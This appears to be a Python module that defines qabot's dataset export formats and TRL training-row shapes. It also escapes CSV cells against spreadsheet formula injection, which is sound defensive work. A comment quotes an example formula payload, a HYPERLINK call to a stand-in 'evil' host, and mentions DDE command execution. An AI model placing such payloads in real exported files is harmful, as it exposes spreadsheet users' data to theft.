"""The dataset formats ``storage.export`` writes: the file suffix of each, the shape of TRL's rows, and
the summary an export returns.

The one list of export formats: ``qabot export``, the ``/export`` slash command and the terminal's
``/export`` offer and check formats from here. It imports nothing (SQLAlchemy included), so the CLI can
build its ``--format`` choices at import time and ``qabot --help`` stays instant.

``sft``/``kto``/``dpo`` rows are TRL's conversational form: prompts are ``[{"role": "user", ...}]`` and
answers ``[{"role": "assistant", ...}]``, so TRL applies the checkpoint's chat template (qabot's prompt).

``csv`` is what admins open in a spreadsheet, so its cells are made safe to open there
(``spreadsheet_cell``); the other formats keep every text exact.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

# json: the seed's list of {"question", "answer"}; jsonl/csv: the same records; sft/kto/dpo: TRL's JSONL.
SUFFIXES = {
    "json": ".json",
    "jsonl": ".jsonl",
    "csv": ".csv",
    "sft": ".jsonl",
    "kto": ".jsonl",
    "dpo": ".jsonl",
}
FORMATS = tuple(SUFFIXES)

# OWASP "CSV Injection": Excel, LibreOffice and Google Sheets run a cell that starts with one of these as
# a formula (=HYPERLINK("http://evil", "click") sends what the sheet holds away; DDE runs commands). A
# member's answer or a question is anyone's text, so a csv cell never starts with one.
FORMULA_STARTS = ("=", "+", "-", "@")
FORMULA_CONTROLS = ("\t", "\r")  # also start a formula once a spreadsheet trims them off the cell


def check_format(fmt: str) -> str:
    """``fmt`` itself, or ``ValueError`` naming the formats there are."""
    if fmt not in SUFFIXES:
        raise ValueError(f"unknown export format {fmt!r}; choose one of {', '.join(FORMATS)}")
    return fmt


def spreadsheet_cell(text: str) -> str:
    """``text`` as a csv cell a spreadsheet shows and never runs: a ``'`` before one that would start a
    formula (OWASP's escape; Excel does not show it), also after leading spaces, which some trim."""
    if text.startswith(FORMULA_CONTROLS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def default_file_name(fmt: str) -> str:
    """The file name an export gets when it is given a folder: ``qabot-<format><suffix>``."""
    return f"qabot-{check_format(fmt)}{SUFFIXES[fmt]}"


# TRL's KTOTrainer wants desirable_weight * n_desirable : undesirable_weight * n_undesirable within
# [1, 4/3] (Ethayarajh et al. 2024, eq. 8; the range TRL's own warning checks).
KTO_RATIO_RANGE = (1.0, 4 / 3)


def user(text: str) -> list[dict[str, str]]:
    return [{"role": "user", "content": text}]


def assistant(text: str) -> list[dict[str, str]]:
    return [{"role": "assistant", "content": text}]


def sft_row(question: str, answer: str) -> dict[str, Any]:
    """TRL's conversational language-modeling row."""
    return {"messages": user(question) + assistant(answer)}


def kto_row(question: str, completion: str, label: bool) -> dict[str, Any]:
    """TRL's conversational unpaired-preference row (``label``: the completion is desirable)."""
    return {"prompt": user(question), "completion": assistant(completion), "label": label}


def dpo_row(question: str, chosen: str, rejected: str) -> dict[str, Any]:
    """TRL's conversational preference row with an explicit prompt."""
    return {"prompt": user(question), "chosen": assistant(chosen), "rejected": assistant(rejected)}


@dataclass
class ExportSummary:
    """What an export wrote: its rows, the file, and, for ``kto``, how many are desirable / undesirable."""

    fmt: str
    rows: int = 0
    path: Path | None = None
    labels: dict[bool, int] = field(default_factory=lambda: {True: 0, False: 0})

    def kto_warning(self) -> str | None:
        """For a ``kto`` export whose desirable:undesirable ratio is outside TRL's recommended range,
        the counts and the ``KTOConfig`` weights that bring it into range; else None."""
        good, bad = self.labels[True], self.labels[False]
        if self.fmt != "kto" or not self.rows:
            return None
        low, high = KTO_RATIO_RANGE
        if not bad or not good:
            kind = "desirable" if good else "undesirable"
            return (
                f"kto: all {self.rows} rows are {kind}; KTO needs both kinds (downvoted or corrected "
                "answers are the undesirable ones)"
            )
        ratio = good / bad
        if low <= ratio <= high:
            return None
        return (
            f"kto: {good} desirable, {bad} undesirable rows ({ratio:.2f}:1); TRL's KTOTrainer recommends "
            f"{low:g}:1 to {high:.2f}:1 after weighting: pass KTOConfig(undesirable_weight=W) with W in "
            f"[{ratio / high:.2f}, {ratio / low:.2f}], or desirable_weight in [{low / ratio:.2f}, "
            f"{high / ratio:.2f}] (not both)"
        )
